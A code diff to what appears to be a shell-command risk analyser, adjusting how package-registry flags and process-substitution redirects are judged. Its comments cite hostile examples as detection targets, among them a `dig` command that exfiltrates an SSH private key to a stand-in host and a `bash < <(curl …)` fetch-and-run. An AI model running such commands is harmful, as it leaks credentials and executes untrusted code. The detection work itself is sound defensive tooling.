@@ -75,8 +75,10 @@ _DOCKER_VALUE = frozenset(("-e", "-v", "-p", "-w", "-u", "-l", "-m", "--name", "
                            "--ulimit", "--tmpfs", "--shm-size", "--log-driver", "--network-alias", "--dns"))
 _GIT_VALUE = frozenset(("--depth", "--branch", "-b", "--origin", "-o", "--config", "-c", "--reference", "--filter",
                         "--jobs", "-j", "--template", "--separate-git-dir", "--shallow-since", "-u", "--upload-pack"))
-_REGISTRY = frozenset(("--registry", "--index-url", "--extra-index-url", "-i", "--index", "--default-index",
-                       "--find-links", "-f", "--trusted-host", "--source", "--extra-index", "--pypi-mirror"))
+_REGISTRY = frozenset(("--registry", "--index-url", "--extra-index-url", "--index", "--default-index",
+                       "--find-links", "--trusted-host", "--source", "--extra-index", "--pypi-mirror"))
+_PIP = frozenset(("pip", "pip3", "uv", "uvx", "pipx", "python", "poetry", "pdm", "conda", "mamba", "micromamba"))
+_PIP_REGISTRY = frozenset(("-i", "-f"))  # pip's short forms of --index-url and --find-links
 _STDIN_FILES = frozenset(("-", "/dev/stdin", "/dev/fd/0", "/proc/self/fd/0"))
 _CODE_FLAGS = {"python": ("-c", "-m"), "perl": ("-e", "-E"), "ruby": ("-e",), "node": ("-e", "-p", "--eval", "--print"),
                "nodejs": ("-e", "-p"), "php": ("-r",), "deno": ("eval",), "bun": ("-e", "--eval"), "lua": ("-e",),
@@ -192,11 +194,8 @@ class _Judge:
                 self.add("unplaced", run.source or run.prog)
             return
         prog, words = run.prog, run.words
-        for op, target in run.redirs:
+        for op, target in run.redirs:  # (`bash < <(curl …)`: the target's substitution is in `run.subs`)
             self.path(target, write=op in (">", ">>", ">|", "&>", ">&"))
-            if op in ("<", "<<<") and run.prog in cr.SHELLS | cr.INTERPRETERS and any(
-                    self.fetched(r.subs, 1) for r in [run]) and target.startswith("<("):
-                self.exec_part(run, target)
         self.stdin_code(run)
         if prog in ("dig", "nslookup", "host", "ping", "drill", "getent", "resolvectl") and run.subs:
             if "sends data off the machine" not in self.reasons:  # `dig $(cat ~/.ssh/id_rsa | base32).x.example`
@@ -227,7 +226,8 @@ class _Judge:
             self.manager(prog, words)
         elif prog == "ace" and _positional(words, frozenset())[:1] in (["uninstall"], ["disable"]):
             self.add("permission", "ace " + _positional(words, frozenset())[0])
-        for value in _values(words, _REGISTRY):
+        packaging = prog in _RUNNERS or prog in _NODE or prog in _MANAGERS or prog in _PIP
+        for value in _values(words, _REGISTRY | (_PIP_REGISTRY if prog in _PIP else frozenset())) if packaging else ():
             host = _host(value)
             if host:
                 self.add("host", host)
